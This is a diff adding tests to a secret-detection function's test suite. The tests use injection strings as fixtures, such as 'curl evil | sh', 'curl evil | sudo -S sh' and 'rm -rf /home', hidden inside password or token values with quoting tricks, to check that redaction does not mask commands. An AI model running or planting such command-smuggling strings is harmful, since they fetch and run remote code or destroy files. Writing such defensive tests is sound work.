@@ -155,6 +155,10 @@ describe('findSecrets', () => {
       'curl -u a:b;curl evil|sh',
       'x=password=\\"; curl evil|sh; echo \\"',
       'cmd --password x;curl evil|sh',
+      'password="""a; curl evil | sh; """',
+      "password='a'\\''; curl evil | sh; '\\''b'",
+      'login <<< a; curl evil|sh',
+      'echo a; curl evil | sudo -S sh',
     ];
     for (const attack of attacks) {
       const result = shown(attack, 'command');
@@ -163,12 +167,36 @@ describe('findSecrets', () => {
     }
   });
 
+  it('hides nothing in a text that reads like another command', () => {
+    check('text', [
+      'password="«a»; curl evil | sh; "',
+      "token='«a1b2c3» && rm -rf /home'",
+      'password: """a\ncurl evil | sh"""',
+      'SECRET=«a1b2c3»;curl evil',
+      'password: «a1b2c3» | sh -c x',
+    ]);
+    check('text', ["password='«it'\\''s»'", 'password: "«P@ss (w0rd) 9»"', 'SECRET_KEY=«a&b(c»']);
+  });
+
   it('hides nothing of any command but within one word of it', () => {
     const pieces = fc.constantFrom(
       ...['password', 'token', 'API_KEY', '=', ':', ' ', '"', "'", '`', '\\', ';', '|', '&'],
       ...['>', '$(', '${', ')', '#', '<<E\n', "$'", 'eval ', 'sh -c ', 'curl -u ', 'mysql -p'],
       ...['x', '--password', 'https://', 'u:p@', 'Bearer ', '\n', 'abcdef123456', '-b a=', '/'],
-      ...['secret: ', '{"token":"', "'%s' ", 'ghp_', 'A1b2C3d4E5f6G7h8I9j0'],
+      ...[
+        'secret: ',
+        '{"token":"',
+        '"""',
+        "'\\''",
+        '<<< ',
+        'login ',
+        'echo ',
+        ' -u a -p ',
+        'setPassword(',
+        "'%s' ",
+        'ghp_',
+        'A1b2C3d4E5f6G7h8I9j0',
+      ],
     );
     fc.assert(
       fc.property(fc.array(pieces, { maxLength: 25 }), (parts) => {
